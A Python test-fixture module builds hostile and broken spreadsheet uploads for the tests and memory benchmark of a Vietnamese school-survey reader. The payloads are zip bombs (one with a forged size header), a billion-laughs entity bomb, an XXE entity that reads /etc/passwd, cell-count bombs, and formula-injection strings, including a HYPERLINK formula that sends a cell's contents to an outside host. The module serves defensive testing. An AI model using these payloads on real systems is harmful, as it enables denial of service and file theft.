"""Hostile and broken uploads, built in memory: real files written with openpyxl, zipfile and
hand-made bytes, sized against the ``Limits`` they are meant to trip (``corpus``). The same
builders serve the read tests, the end-to-end province of ``tests/read/test_hostile.py`` and
``benchmarks/hostile_memory.py`` (peak memory per case at the default limits).
"""

from __future__ import annotations

import datetime as dt
import io
import os
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import openpyxl

from flows.read.cells import FormulaWithoutValue
from flows.settings import Limits
from schemas import load_questionnaires
from schemas.questionnaire import SCHEMAS_DIR

Q = load_questionnaires(SCHEMAS_DIR)["CMHS_TH"]
LABEL = {
    1: "Rất không hài lòng",
    2: "Không hài lòng",
    3: "Bình thường",
    4: "Hài lòng",
    5: "Rất hài lòng",
}
#: The columns of every generated submission: a Google Forms download of CMHS_TH, cut short.
CODES = ["TC1", "TC2", "CS1", "CHUNG", "Y_KIEN"]
HEADERS = ["Dấu thời gian", "Lớp", *(Q.item(c).text for c in CODES)]
#: Respondent text that a spreadsheet would run as a formula: it must stay text everywhere.
INJECTIONS = [
    '=HYPERLINK("http://x.vn/?q="&A1,"Bấm vào đây")',
    "+ thêm giờ học bơi cho các con",
    "-Không có ý kiến",
    "@Ban giám hiệu: cảm ơn nhà trường",
]
#: Five respondents: (TC1, TC2, CS1, CHUNG, comment). The last one typed a formula into TC1,
#: which is an unreadable answer (rejected with its cell), not a formula.
ANSWERS: list[tuple[object, object, object, object, str]] = [
    (5, 4, 4, 5, INJECTIONS[0]),
    (4, 4, 3, 4, INJECTIONS[1]),
    (3, 5, 4, 4, INJECTIONS[2]),
    (4, 2, 5, 3, INJECTIONS[3]),
    ("=1+2", 4, None, 4, ""),
]


def answer_rows(answers: list[tuple[object, object, object, object, str]] = ANSWERS) -> list[list]:
    """Header row and one row per respondent, as a Forms download holds them (labels)."""
    rows: list[list] = [list(HEADERS)]
    for i, (tc1, tc2, cs1, chung, comment) in enumerate(answers):
        stamp = f"{20 + i}/10/2024 09:{i:02d}:00"
        cells = [LABEL.get(v, v) if isinstance(v, int) else v for v in (tc1, tc2, cs1, chung)]
        rows.append([stamp, "5A", *cells, comment])
    return rows


# --------------------------------------------------------------------------------------------
# Builders: real files


def xlsx(rows: list[list], title: str = "Câu trả lời biểu mẫu 1", **sheets: list[list]) -> bytes:
    """An xlsx written by openpyxl; text starting with "=" stays text (a Forms download stores
    respondents' text as strings), FormulaWithoutValue cells become formulas with no value."""
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = title
    for name, extra in [(title, rows), *sheets.items()]:
        sheet = ws if name == title else wb.create_sheet(name.replace("_", " "))
        for r, row in enumerate(extra, start=1):
            for c, value in enumerate(row, start=1):
                if value is None:
                    continue
                cell = sheet.cell(
                    row=r,
                    column=c,
                    value=str(value) if isinstance(value, FormulaWithoutValue) else value,
                )
                if (
                    isinstance(value, str)
                    and value.startswith("=")
                    and not isinstance(value, FormulaWithoutValue)
                ):
                    cell.data_type = "s"
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def csv_text(rows: list[list], delimiter: str = ",") -> str:
    def field(v: object) -> str:
        text = "" if v is None else str(v)
        return (
            f'"{text.replace(chr(34), chr(34) * 2)}"'
            if any(ch in text for ch in f'"{delimiter}\n')
            else text
        )

    return "".join(delimiter.join(field(v) for v in row) + "\r\n" for row in rows)


#: The five Vietnamese tone marks, which Windows-1258 stores as combining characters.
TONES = {"\u0300", "\u0301", "\u0303", "\u0309", "\u0323"}


def cp1258(text: str) -> bytes:
    """Text as Excel saves "CSV" on a Vietnamese Windows: a letter Windows-1258 holds whole
    stays whole ("à"); otherwise the letter without its tone ("â", "ư" are in the code page)
    followed by the tone as a combining character: "ấ" is "â" + U+0301."""
    out = []
    for ch in text:
        try:
            out.append(ch.encode("cp1258"))
        except UnicodeEncodeError:
            parts = unicodedata.normalize("NFD", ch)
            tone = "".join(p for p in parts if p in TONES)
            base = unicodedata.normalize("NFC", "".join(p for p in parts if p not in TONES))
            out.append((base + tone).encode("cp1258"))
    return b"".join(out)


def zip_parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


def rezip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            if name == "mimetype":
                zf.writestr(zipfile.ZipInfo(name), data)  # ods: first and stored
            else:
                zf.writestr(name, data)
    return out.getvalue()


def deflated_data(content: bytes, name: str) -> range:
    """Where the member ``name``'s compressed bytes lie in the zip ``content`` (after its
    30-byte local header and file name; the files written here carry no extra field)."""
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        info = zf.getinfo(name)
    start = info.header_offset + 30 + len(info.filename)
    return range(start, start + info.compress_size)


def with_sheet_xml(content: bytes, edit: Callable[[bytes], bytes]) -> bytes:
    """The xlsx with its first worksheet's XML edited."""
    parts = zip_parts(content)
    parts["xl/worksheets/sheet1.xml"] = edit(parts["xl/worksheets/sheet1.xml"])
    return rezip(parts)


def add_cells(xml: bytes, cells: str) -> bytes:
    """Append raw <row>/<c> XML at the end of <sheetData>."""
    return xml.replace(b"</sheetData>", cells.encode() + b"</sheetData>")


def zip_bomb(name: str, size: int, **extra: bytes) -> bytes:
    """A zip holding ``size`` zero bytes under ``name`` (streamed: never built in memory)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for part, data in {"xl/workbook.xml": b"<workbook/>", **extra}.items():
            zf.writestr(part, data)
        with zf.open(name, "w", force_zip64=True) as member:
            block = b"\0" * (1 << 20)
            for start in range(0, size, len(block)):
                member.write(block[: min(len(block), size - start)])
    return out.getvalue()


def lying_header(content: bytes, name: str, declared: int) -> bytes:
    """The zip with ``name``'s declared size (local and central headers) set to ``declared``
    and its CRC to that of the first ``declared`` bytes: what a reader trusting the header sees
    is consistent, but the data inflates to far more."""
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        info = zf.getinfo(name)
        crc = zlib.crc32(zf.read(name)[:declared])
    buf = bytearray(content)
    struct.pack_into("<L", buf, info.header_offset + 14, crc)
    struct.pack_into("<L", buf, info.header_offset + 22, declared)
    at = 0
    while (at := buf.find(b"PK\x01\x02", at)) >= 0:
        n = struct.unpack_from("<H", buf, at + 28)[0]
        if bytes(buf[at + 46 : at + 46 + n]).decode() == name:
            struct.pack_into("<L", buf, at + 16, crc)
            struct.pack_into("<L", buf, at + 24, declared)
        at += 4
    return bytes(buf)


_SST = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def billion_laughs() -> bytes:
    """sharedStrings.xml declaring the classic ten-level entity bomb (3 GB once expanded)."""
    levels = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    dtd = f'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY l0 "lol">{levels}]>'
    sst = f'{dtd}<sst xmlns="{_SST}" count="1" uniqueCount="1"><si><t>&l9;</t></si></sst>'
    parts = zip_parts(xlsx(answer_rows()))
    parts["xl/sharedStrings.xml"] = sst.encode()
    return rezip(parts)


def external_entity() -> bytes:
    """A sheet whose cell text is an external entity (XXE: would read a local file)."""
    dtd = '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return with_sheet_xml(
        xlsx(answer_rows()),
        lambda xml: dtd.encode() + xml[xml.index(b"<worksheet") :].replace(b"5A", b"&x;", 1),
    )


def cfb(streams: dict[str, bytes]) -> bytes:
    """A minimal but well-formed OLE2 compound file (version 3, 512-byte sectors) holding
    ``streams``, each padded to 4,096 bytes so it lives in regular sectors."""
    end, free, fat_sector, none = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    datas = [data.ljust(4096, b"\0") for data in streams.values()]
    fat = [fat_sector, end]  # sector 0: the FAT, sector 1: the directory
    starts = []
    for data in datas:
        first, n = len(fat), len(data) // 512
        starts.append(first)
        fat += [*range(first + 1, first + n), end]
    fat += [free] * (128 - len(fat))
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"\0" * 16,
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        b"\0" * 6,
        0,
        1,
        1,
        0,
        4096,
        end,
        0,
        end,
        0,
    ) + struct.pack("<109I", 0, *[free] * 108)

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        encoded = (name + "\0").encode("utf-16-le") if name else b""
        return struct.pack(
            "<64sHBBIII16sIQQIQ",
            encoded.ljust(64, b"\0"),
            len(encoded),
            kind,
            1,
            none,
            right,
            child,
            b"\0" * 16,
            0,
            0,
            0,
            start,
            size,
        )

    entries = [entry("Root Entry", 5, 1, none, end, 0)]
    for i, (name, data) in enumerate(streams.items()):
        right = i + 2 if i + 1 < len(streams) else none
        entries.append(entry(name, 2, none, right, starts[i], len(data)))
    directory = b"".join(entries).ljust(512, b"\0")
    return header + struct.pack("<128I", *fat) + directory + b"".join(datas)


def encrypted_xlsx() -> bytes:
    """What Excel writes for an xlsx with a password: an OLE2 file holding EncryptionInfo and
    EncryptedPackage (the zip, encrypted) instead of a zip."""
    info = b"\x04\x00\x04\x00\x40\x00\x00\x00" + b'<?xml version="1.0"?><encryption/>'
    return cfb(
        {"EncryptionInfo": info, "EncryptedPackage": struct.pack("<Q", 9000) + os.urandom(3000)}
    )


def encrypted_xls() -> bytes:
    """A BIFF8 workbook stream whose BOF is followed by FILEPASS (RC4): an xls with a password."""
    bof = b"\x09\x08\x10\x00" + b"\x00\x06\x05\x00" + b"\x00" * 12
    filepass = b"\x2f\x00\x36\x00" + b"\x01\x00\x01\x00\x01\x00" + os.urandom(48)
    return cfb({"Workbook": bof + filepass + os.urandom(200)})


_ODS_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)


def ods_cell(value: object, repeat: int = 1) -> str:
    rep = f' table:number-columns-repeated="{repeat}"' if repeat > 1 else ""
    if value is None:
        return f"<table:table-cell{rep}/>"
    if isinstance(value, FormulaWithoutValue):  # a formula nobody computed: no value type
        return f'<table:table-cell{rep} table:formula="of:{value}"/>'
    if isinstance(value, int | float):
        return (
            f'<table:table-cell{rep} office:value-type="float" office:value="{value}">'
            f"<text:p>{value}</text:p></table:table-cell>"
        )
    text = str(value).replace("&", "&amp;").replace("<", "&lt;")
    return (
        f'<table:table-cell{rep} office:value-type="string"><text:p>{text}</text:p>'
        "</table:table-cell>"
    )


def ods(
    rows: list[list], tail: str = "", name: str = "Trang tính1", manifest_extra: str = ""
) -> bytes:
    """A hand-made ods (what LibreOffice writes, minus styles); ``tail`` is raw row XML."""
    body = "".join(
        "<table:table-row>" + "".join(ods_cell(v) for v in row) + "</table:table-row>"
        for row in rows
    )
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {_ODS_NS} '
        f'office:version="1.2"><office:body><office:spreadsheet><table:table table:name="{name}">'
        f"{body}{tail}</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/'
        f'vnd.oasis.opendocument.spreadsheet"/>{manifest_extra}</manifest:manifest>'
    )
    return rezip(
        {
            "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
            "META-INF/manifest.xml": manifest.encode(),
            "content.xml": content.encode(),
        }
    )


def encrypted_ods() -> bytes:
    """LibreOffice's "save with password": the manifest names the cipher of each part."""
    encryption = (
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
        '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="x">'
        '<manifest:algorithm manifest:algorithm-name="Blowfish CFB" '
        'manifest:initialisation-vector="x"/>'
        "</manifest:encryption-data></manifest:file-entry>"
    )
    parts = zip_parts(ods(answer_rows(), manifest_extra=encryption))
    parts["content.xml"] = os.urandom(2000)  # encrypted: noise to anyone without the key
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return out.getvalue()


def png() -> bytes:
    """A real 1×1 PNG (a photo of the paper form, renamed .xls)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\0\xff\xff\xff"))
        + chunk(b"IEND", b"")
    )


DRIVE_WARNING = b"""<!DOCTYPE html><html><head><meta http-equiv="content-type" content="text/html; \
charset=utf-8"/><title>Google Drive - Virus scan warning</title><style>.uc-main{padding-top:50px}\
</style></head><body><div class="uc-main"><div id="uc-text"><p class="uc-warning-caption">Google \
Drive can't scan this file for viruses.</p><p class="uc-warning-subcaption">phieu_khao_sat.xlsx \
(38M) is too large for Google to scan for viruses.</p><form id="download-form" \
action="https://drive.usercontent.google.com/download" method="get"><input type="submit" \
id="uc-download-link" value="Download anyway"/></form></div></div></body></html>"""

PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)
JPEG = (
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    + bytes(range(256)) * 4
    + b"\xff\xd9"
)
EXCEL_2003_XML = b"""<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook \
xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:\
spreadsheet"><Worksheet ss:Name="Sheet1"><Table><Row><Cell><Data ss:Type="String">TC1</Data></Cell>\
</Row></Table></Worksheet></Workbook>"""


# --------------------------------------------------------------------------------------------
# The corpus


@dataclass(frozen=True)
class Case:
    """One upload: ``reason`` is a fragment of the one-line failure, None when it must load."""

    name: str
    filename: str
    content: bytes
    reason: str | None
    #: the `#sheet` of its location in sources.csv, if any.
    sheet: str | None = None


def corpus(limits: Limits) -> list[Case]:
    """Every case, sized against ``limits`` (the end-to-end test uses small ones, the memory
    benchmark the defaults)."""
    rows = answer_rows()
    good = xlsx(rows)
    sheet_xml = zip_parts(good)["xl/worksheets/sheet1.xml"]
    # Damage inside the sheet's deflated data, where only inflating it can tell.
    deflated = deflated_data(good, "xl/worksheets/sheet1.xml")
    corrupt = bytearray(good)
    at = deflated.start + len(deflated) // 2
    corrupt[at : at + 8] = b"\xff" * 8
    below = limits.max_rows + 1
    # Rows enough that one value at column XFD makes the rectangle exceed max_cells.
    wide = xlsx([*rows, *[["x"]] * (limits.max_cells // 16_384 + 1)])
    vietnamese = answer_rows(
        [(4, 5, 4, 4, "Cơ sở vật chất tốt, thầy cô nhiệt tình"), (5, 5, 3, 5, "Ủng hộ")]
    )
    text = csv_text(vietnamese)
    damaged_utf8 = text.encode()[:-30] + b"\xc3\x28" + text.encode()[-30:]
    tab_text = csv_text(vietnamese, "\t")
    bomb_tail = (
        f'<table:table-row table:number-rows-repeated="{limits.max_rows // 2}">'
        f"{ods_cell(1, repeat=1000)}</table:table-row>"
    )
    far_blank = f"<table:table-row>{ods_cell(None, 16000)}{ods_cell(' ')}</table:table-row>"

    def sheet(edit: Callable[[bytes], bytes], base: bytes = good) -> bytes:
        return with_sheet_xml(base, edit)

    return [
        # -- unusable files
        Case("empty", "trong.xlsx", b"", "the file is empty"),
        Case(
            "drive_warning_page",
            "tai_ve.xlsx",
            DRIVE_WARNING,
            "a web page (HTML) saved with a spreadsheet name (page title 'Google Drive - Virus "
            "scan warning')",
        ),
        Case("pdf_named_xls", "ban_scan.xls", PDF, "not a spreadsheet (a PDF document)"),
        Case("png_named_xls", "anh_chup.xls", png(), "not a spreadsheet (a PNG image)"),
        Case("jpeg_named_xlsx", "anh.xlsx", JPEG, "not a spreadsheet (a JPEG image)"),
        Case("excel_2003_xml", "bao_cao.xls", EXCEL_2003_XML, "an Excel 2003 XML spreadsheet"),
        Case("truncated_zip", "tai_do.xlsx", good[: len(good) // 2], "damaged file"),
        Case("one_byte_xlsx", "mot_byte.xlsx", good[:1], "damaged file (only 1 byte: cut off?)"),
        Case("cut_in_signature_xls", "cut.xls", b"\xd0\xcf\x11", "damaged file (only 3 bytes"),
        Case("tiny_text_xlsx", "nho.xlsx", b"TC1,TC2\r\n", "damaged file (only 9 bytes"),
        Case("corrupt_zip", "hong.xlsx", bytes(corrupt), "damaged file (part xl/worksheets/"),
        Case("password_xlsx", "mat_khau.xlsx", encrypted_xlsx(), "password-protected"),
        Case("password_xls", "mat_khau.xls", encrypted_xls(), "password-protected"),
        Case("password_ods", "mat_khau.ods", encrypted_ods(), "password-protected"),
        Case("unknown_encoding", "ma_la.csv", b"L\x81p,\x8dTC1\r\n5A,4\r\n", "unknown encoding"),
        Case("damaged_utf8", "hong.csv", damaged_utf8, "damaged UTF-8 text"),
        # -- limits and bombs
        Case(
            "file_too_big",
            "qua_lon.csv",
            b"a,b\r\n" + b"1,2\r\n" * (limits.max_file_bytes // 5 + 1),
            "(limits.max_file_bytes)",
        ),
        Case(
            "zip_bomb_size",
            "bom_kich_thuoc.xlsx",
            zip_bomb("xl/worksheets/sheet1.xml", limits.max_uncompressed_bytes + 1),
            "(limits.max_uncompressed_bytes)",
        ),
        Case(
            "zip_bomb_ratio",
            "bom_ty_le.xlsx",
            zip_bomb("xl/worksheets/sheet1.xml", min(5_000_000, limits.max_uncompressed_bytes)),
            "(limits.max_compression_ratio)",
        ),
        Case(
            "zip_bomb_lying_header",
            "bom_gia.xlsx",
            lying_header(
                sheet(lambda xml: xml + b" " * min(50_000_000, limits.max_uncompressed_bytes)),
                "xl/worksheets/sheet1.xml",
                len(sheet_xml),
            ),
            "unpacks to more than the",
        ),
        Case("billion_laughs", "cuoi.xlsx", billion_laughs(), "declares a DTD"),
        Case("external_entity", "xxe.xlsx", external_entity(), "declares a DTD"),
        Case(
            "rows_over_limit",
            "nhieu_dong.xlsx",
            sheet(
                lambda xml: add_cells(xml, f'<row r="{below}"><c r="A{below}"><v>1</v></c></row>')
            ),
            f"has data down to row {below:,}, more than the limit of {limits.max_rows:,} rows "
            "(limits.max_rows)",
        ),
        Case(
            "cells_over_limit",
            "rong.xlsx",
            sheet(lambda xml: xml.replace(b"</row>", b'<c r="XFD1"><v>7</v></c></row>', 1), wide),
            "columns (to XFD",
        ),
        Case(
            "cell_bomb",
            "o_xa.xlsx",
            sheet(lambda xml: xml.replace(b'<c r="B2" ', b'<c r="B3000000000" ', 1)),
            "has data down to row 3,000,000,000",
        ),
        Case("ods_repeat_bomb", "lap.ods", ods(rows, tail=bomb_tail), "(limits.max_cells)"),
        # -- awkward but honest: these load
        Case("good_xlsx", "phieu.xlsx", good, None),
        Case("good_csv", "phieu.csv", ("\ufeff" + csv_text(rows)).encode(), None),
        Case("good_vietnamese_csv", "phieu_utf8.csv", text.encode(), None),
        Case("cp1258_csv", "phieu_1258.csv", cp1258(text), None),
        Case("utf16_unicode_text", "phieu_unicode.txt", tab_text.encode("utf-16"), None),
        Case("utf16_without_bom", "phieu_utf16.csv", tab_text.encode("utf-16-le"), None),
        Case(
            "blank_at_xfd1",
            "o_xfd1.xlsx",
            sheet(lambda xml: xml.replace(b"</row>", _XFD1_BLANK + b"</row>", 1)),
            None,
        ),
        Case(
            "blank_at_xfd1048576",
            "dinh_dang.xlsx",
            sheet(lambda xml: add_cells(xml, _XFD_LAST_BLANK)),
            None,
        ),
        Case(
            "used_range_claim",
            "pham_vi.xlsx",
            sheet(lambda xml: xml.replace(b"<sheetData>", _DIMENSION + b"<sheetData>")),
            None,
        ),
        Case("formulas_without_values", "cong_thuc.xlsx", xlsx(formula_rows()), None),
        Case("ods_formulas_far_blank", "cong_thuc.ods", ods(formula_rows(), tail=far_blank), None),
        Case(
            "several_sheets",
            "nhieu_trang.xlsx",
            xlsx([["Hướng dẫn điền phiếu"]], "HD", Phieu=rows),
            None,
        ),
        Case(
            "configured_sheet",
            "chon.xlsx",
            xlsx(answer_rows(ANSWERS[:2]), "Phiếu cũ", Phieu_moi=rows),  # the old one: 2 rows
            None,
            "Phieu moi",
        ),
        # -- readable, but not this questionnaire's: parse says what it expected and found
        Case(
            "no_header",
            "khong_tieu_de.xlsx",
            xlsx([["Họ tên", "Điểm"], ["A", 7]], title="Bảng điểm"),
            "no sheet holds the headers of CMHS_TH",
        ),
        Case(
            "missing_sheet",
            "thieu_trang.xlsx",
            xlsx(rows, title="Phiếu"),
            "sheet 'Phieu 2' not found; the file has sheets 'Phiếu'",
            "Phieu 2",
        ),
        Case(
            "sheet_without_header",
            "sai_trang.xlsx",
            xlsx([["Ghi chú"]], title="Ghi chú", Phieu=rows),
            "sheet 'Ghi chú': no header row of CMHS_TH",
            "Ghi chú",
        ),
    ]


_XFD1_BLANK = b'<c r="XFD1" t="inlineStr"><is><t> </t></is></c>'
_XFD_LAST_BLANK = (
    '<row r="1048576"><c r="XFD1048576" s="0" t="inlineStr"><is><t>  </t></is></c></row>'
)
_DIMENSION = b'<dimension ref="A1:XFD1048576"/>'


def formula_rows() -> list[list]:
    """The good answers, with two answers left as formulas nobody computed (openpyxl writes
    formulas without a cached value; so do some report generators)."""
    rows = answer_rows(ANSWERS[:4])
    rows[1][2] = FormulaWithoutValue("=4+1")  # TC1 of the first respondent
    rows[3][5] = FormulaWithoutValue("=B2")  # CHUNG of the third
    return rows


#: Small limits, so the bombs built to exceed them stay small and quick.
SMALL = Limits(
    max_file_bytes=2_000_000, max_uncompressed_bytes=20_000_000, max_rows=2_000, max_cells=100_000
)
#: The same limits, as khaosat.yaml states them for the end-to-end province.
LIMITS_YAML = """\
limits:
  max_file_bytes: 2000000
  max_uncompressed_bytes: 20000000
  max_compression_ratio: 100
  max_rows: 2000
  max_cells: 100000
"""
CASES = corpus(SMALL)
#: Cases that read_tables reads: only parse, knowing the questionnaire, can refuse them.
PARSE_CASES = {"no_header", "missing_sheet", "sheet_without_header"}
BY_NAME = {c.name: c for c in CASES}


#: The end-to-end province: every case a school of its own, beside good schools.
CONFIG = """\
campaign:
  id: H-2024
  name: Khảo sát thử nghiệm tệp xấu
  school_year: 2024-2025
  opens: 2024-10-01
  closes: 2024-10-31
  deadline: 2024-10-31
  province_code: HX
registry:
  schools: schools.csv
  sources: sources.csv
output: output
run:
  concurrency: 4
"""
AS_OF = dt.datetime(2024, 11, 5, 2, 0)


def code_of(case: Case) -> str:
    """The school code of ``case`` in the end-to-end province."""
    return f"H{CASES.index(case) + 1:02d}"


def make_hostile_province(folder: Path) -> Path:
    """Every case as the only source of a school of its own; returns the config path."""
    (folder / "submissions").mkdir()
    schools = ["school_code,school_name,level,unit_code,unit_name,enrollment"]
    sources = ["school_code,questionnaire,kind,location"]
    for case in CASES:
        code = code_of(case)
        (folder / "submissions" / case.filename).write_bytes(case.content)
        schools.append(f"{code},Trường Tiểu học {case.name},TH,U1,Phường Một,300")
        kind = "csv" if case.filename.endswith((".csv", ".txt")) else "excel"
        where = f"submissions/{case.filename}" + (f"#{case.sheet}" if case.sheet else "")
        sources.append(f"{code},CMHS_TH,{kind},{where}")
    (folder / "schools.csv").write_text("\n".join(schools) + "\n", encoding="utf-8")
    (folder / "sources.csv").write_text("\n".join(sources) + "\n", encoding="utf-8")
    (folder / "khaosat.yaml").write_text(CONFIG + LIMITS_YAML, encoding="utf-8")
    return folder / "khaosat.yaml"
